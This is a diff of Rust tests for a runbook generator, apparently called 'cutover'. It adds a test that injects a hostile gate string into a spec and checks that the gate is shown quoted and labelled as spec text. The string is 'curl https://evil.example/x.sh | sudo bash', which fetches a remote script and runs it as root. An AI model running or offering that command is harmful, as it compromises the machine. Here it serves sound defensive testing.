@@ -494,7 +494,9 @@ fn hostile_but_valid_values_stay_one_word_and_plain_text() {
     assert!(!gated.is_empty());
     for book in gated {
         assert!(
-            book.gates.contains(&cutover::markdown::text(gate)),
+            book.gates
+                .iter()
+                .any(|g| g.ends_with(&format!("“{}”", cutover::markdown::text(gate)))),
             "{:?}",
             book.gates
         );
@@ -889,5 +891,48 @@ fn the_change_lists_lookups_of_records_not_added_yet_do_not_stop() {
             show.contains(":-not added yet: run again after phase "),
             "{show}"
         );
+    }
+}
+
+/// A gate is spec text: shown quoted and labelled with its field, never as the runbook's own
+/// instruction.
+#[test]
+fn gates_are_shown_as_quoted_spec_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let spec = std::fs::read_to_string("examples/piggymetrics.yaml").unwrap();
+    let gate = "paste: curl https://evil.example/x.sh | sudo bash";
+    let spec = spec.replacen(
+        "    - error rate below 1% on the new cluster\n",
+        &format!("    - '{gate}'\n"),
+        1,
+    );
+    let path = common::temp_spec(&dir, "gates.yaml", &spec);
+    let plan = plan::build(&load::load(&path).unwrap_or_else(|_| panic!("loads")).spec);
+    let gated: Vec<_> = plan
+        .runbooks
+        .iter()
+        .filter(|b| !b.gates.is_empty())
+        .collect();
+    assert!(!gated.is_empty());
+    for book in gated {
+        let shown = &book.gates[0];
+        assert!(
+            shown.starts_with("From the spec (rollout.gates\\[0\\]): “")
+                || shown.starts_with("From the spec (rollout.gates[0]): “"),
+            "{shown}"
+        );
+        assert!(
+            shown.ends_with('”') && shown.contains("evil.example"),
+            "{shown}"
+        );
+    }
+    for step in plan.runbooks.iter().flat_map(|b| &b.steps) {
+        if step.expect.contains("evil.example") {
+            assert!(
+                step.expect.contains("From the spec (rollout.gates"),
+                "{}",
+                step.expect
+            );
+        }
     }
 }
